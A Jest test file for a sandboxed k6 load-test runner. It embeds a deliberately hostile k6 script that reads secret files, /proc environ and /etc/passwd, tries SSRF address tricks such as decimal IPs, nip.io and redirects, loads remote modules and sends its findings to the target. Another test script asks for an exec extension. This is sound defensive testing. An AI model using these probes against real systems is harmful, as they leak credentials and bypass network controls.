// What a load script can find: the real k6 runs one that tries every way to files, environment and network, and reports to its target. The first
// test runs it as k6 was run before, and shows that the script bites.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals';
import type { StartK6 } from './k6-run.ts';
import { startK6Runner } from './k6-runner.ts';
import { separateUser } from './k6-user.ts';
import { localK6, type LocalK6 } from './local-k6.ts';
import { remoteK6 } from './remote-k6.ts';
import { findK6 } from '../testing/find-k6.ts';

jest.setTimeout(60_000);

const CANARY = 'canary-8c2e';
let folder: string;
/** What reached the target, and who reached the server beside it. */
let reported: string[];
let strangers: string[];
let target: Server;
let other: Server;
let targetUrl: string;
let otherPort: number;
/** Files of a worker, each with a canary of its own. */
let secrets: string[];

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hostile-k6-'));
  await chmod(folder, 0o711);
  [reported, strangers] = [[], []];
  other = createServer((request, response) => {
    strangers.push(`${request.headers.host ?? ''}${request.url ?? ''}`);
    response.end('found');
  }).listen(0, '127.0.0.1');
  await once(other, 'listening');
  otherPort = (other.address() as AddressInfo).port;
  target = createServer((request, response) => {
    if (request.url?.startsWith('/redirect'))
      return void response.writeHead(302, { location: `http://127.0.0.1:${otherPort}/redirected` }).end();
    void text(request).then((body) => {
      if (body !== '') reported.push(body);
      response.end('ok');
    });
  }).listen(0, '127.0.0.1');
  await once(target, 'listening');
  targetUrl = `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
  process.env['TMINUS_CANARY'] = `${CANARY}-environment`;
  await mkdir(join(folder, 'secrets'));
  const files = ['signing-key.pem', 'kubeconfig', 'environment.yaml', 'evidence.json'];
  secrets = files.map((name) => join(folder, 'secrets', name));
  // One that anybody may read, as evidence often is; by rights the others are this user's own.
  for (const path of secrets)
    await writeFile(path, `${CANARY}-${path.split('/').at(-1)}`, { mode: path.endsWith('.json') ? 0o644 : 0o600 });
});
afterEach(async () => {
  delete process.env['TMINUS_CANARY'];
  for (const server of [target, other]) {
    server.closeAllConnections();
    server.close();
  }
  await rm(folder, { recursive: true });
});

/** Tries everything, and reports to its target what it found. */
function hostile(): string {
  const paths = [
    ...secrets,
    ...secrets.map((path) => `file://${path}`),
    ...secrets.map((path) => `../secrets/${path.split('/').at(-1)}`),
    `/proc/${process.pid}/environ`,
    '/proc/self/environ',
    '/proc/1/environ',
    '/etc/passwd',
    '/etc/hostname',
  ];
  const addresses = [
    `http://127.0.0.1:${otherPort}/address`,
    `http://localhost:${otherPort}/name`,
    `http://[::ffff:127.0.0.1]:${otherPort}/mapped`,
    `http://2130706433:${otherPort}/number`,
    `http://127.1:${otherPort}/short`,
    `http://127.0.0.1.nip.io:${otherPort}/dns`,
  ];
  return `
    import http from 'k6/http';
    import ws from 'k6/ws';
    import grpc from 'k6/net/grpc';
    import * as fs from 'k6/experimental/fs';
    export const options = { vus: 1, blacklistIPs: [], hosts: {}, blockHostnames: [] };
    const found = [];
    const attempt = (name, act) => {
      try {
        const what = act();
        if (what) found.push(name + ': ' + what);
      } catch (error) { /* nothing found */ }
    };
    for (const path of ${JSON.stringify(paths)}) {
      attempt('open ' + path, () => open(path));
      attempt('require ' + path, () => JSON.stringify(require(path)));
    }
    for (const path of ${JSON.stringify(secrets)}) {
      try {
        const file = await fs.open(path);
        const bytes = new Uint8Array(64);
        await file.read(bytes);
        found.push('fs ' + path + ': ' + String.fromCharCode(...bytes));
      } catch (error) { /* nothing found */ }
    }
    attempt('module', () => JSON.stringify(require('https://127.0.0.1:${otherPort}/module.js')));
    attempt('variables', () => JSON.stringify(__ENV));
    // A promise of the init phase, with which options could be changed after they were exported.
    Promise.resolve().then(() => { options.blacklistIPs = []; options.hosts = {}; });
    export default function () {
      for (const address of ${JSON.stringify(addresses)}) attempt('http ' + address, () => http.get(address, { timeout: '2s' }).body);
      attempt('redirect', () => (http.get(__ENV.TARGET + '/redirect', { timeout: '2s' }).body === 'found' ? 'redirected' : ''));
      attempt('websocket', () => ws.connect('ws://127.0.0.1:${otherPort}/socket', (socket) => socket.close()).status || '');
      attempt('grpc', () => {
        const client = new grpc.Client();
        client.connect('127.0.0.1:${otherPort}', { plaintext: true, timeout: '1s' });
        return 'connected';
      });
      http.post(__ENV.TARGET + '/report', JSON.stringify(found));
    }
    export function handleSummary() { return { stdout: 'forged points', ${JSON.stringify(join(folder, 'written'))}: 'written' }; }
  `;
}

// About four iterations: on a busy machine the first may find its virtual user not ready.
const run = () => ({ script: Buffer.from(hostile()), stages: [{ seconds: 2, ratePerSecond: 4 }], maxVus: 2, targetUrl });
const options = (user: LocalK6['user']): LocalK6 => ({ k6Path: findK6(), workFolder: join(folder, 'work'), user, hosts: [] });

/** What the script reported, once. */
async function reportOf(start: StartK6): Promise<string> {
  const k6 = await start(run());
  const points = await text(k6.points);
  const ended = await k6.ended;
  expect({ ...ended, reported: reported.length > 0 }).toMatchObject({ exitCode: 0, reported: true });
  expect(points).not.toContain('forged');
  return reported.join('\n');
}

it('bites: run from a file, with no more than a filtered environment, the script finds every file and every address', async () => {
  const work = join(folder, 'work');
  await mkdir(work);
  await writeFile(join(work, 'script.js'), hostile());
  await writeFile(
    join(work, 'wrapper.js'),
    `export * from './script.js'; export { default } from './script.js'; export const options = { iterations: 1 };`,
  );
  const argv = ['run', '--quiet', '--summary-mode=disabled', '--no-usage-report', '--address', '', '--include-system-env-vars=false'];
  const k6 = spawn(findK6(), [...argv, '-e', `TARGET=${targetUrl}`, '--out', 'json=-', 'wrapper.js'], {
    cwd: work,
    env: { PATH: '/usr/bin:/bin', HOME: work },
  });
  k6.stdout.resume();
  const log = await text(k6.stderr);
  expect({ reports: reported.length, log: reported.length > 0 ? '' : log }).toEqual({ reports: 1, log: '' });
  for (const path of secrets) expect(reported[0]).toContain(`${CANARY}-${path.split('/').at(-1)}`);
  expect(reported[0]).toContain(`${CANARY}-environment`);
  expect(reported[0]).toContain('open /etc/passwd');
  const reached = strangers.map((each) => each.split('/').at(-1));
  expect(reached).toEqual(expect.arrayContaining(['address', 'name', 'mapped', 'redirected', 'socket']));
});

describe('a load script finds no file, no variable and no address but its target', () => {
  it.each([
    ['as another user, where the worker may switch', () => localK6(options(separateUser()))],
    ['as the user of the worker, where it may not', () => localK6(options(null))],
  ])('%s', async (_, start) => {
    const report = await reportOf(start());
    expect(report).not.toContain(CANARY);
    expect(JSON.parse(reported[0] ?? '')).toEqual([expect.stringMatching(/^variables: \{"TARGET":"http:\/\/127\.0\.0\.1:\d+"\}$/)]);
    expect(strangers).toEqual([]);
    await expect(readFile(join(folder, 'written'))).rejects.toThrow('ENOENT');
  });

  it('at a runner', async () => {
    const socket = join(folder, 'k6.sock');
    const runner = await startK6Runner({ socket, ...options(separateUser()) });
    const report = await reportOf(remoteK6({ socket, hosts: [] }));
    await runner.close();
    expect(report).not.toContain(CANARY);
    expect(strangers).toEqual([]);
  });
});

it('reaches a host that the environment file adds, and still no other', async () => {
  const found = await reportOf(localK6({ ...options(separateUser()), hosts: [`localhost:${otherPort}`] }));
  expect(found).toContain(`http http://localhost:${otherPort}/name: found`);
  expect(found).not.toContain(CANARY);
});

it('has no extension downloaded for a script that asks for one', async () => {
  const k6 = await localK6(options(separateUser()))({
    ...run(),
    script: Buffer.from(`"use k6 with k6/x/exec";\nimport exec from 'k6/x/exec';\nexport default function () { exec.command('id'); }`),
  });
  await text(k6.points);
  expect(await k6.ended).toMatchObject({
    exitCode: expect.any(Number),
    lastError: expect.stringContaining('unknown modules ["k6/x/exec"]'),
  });
});
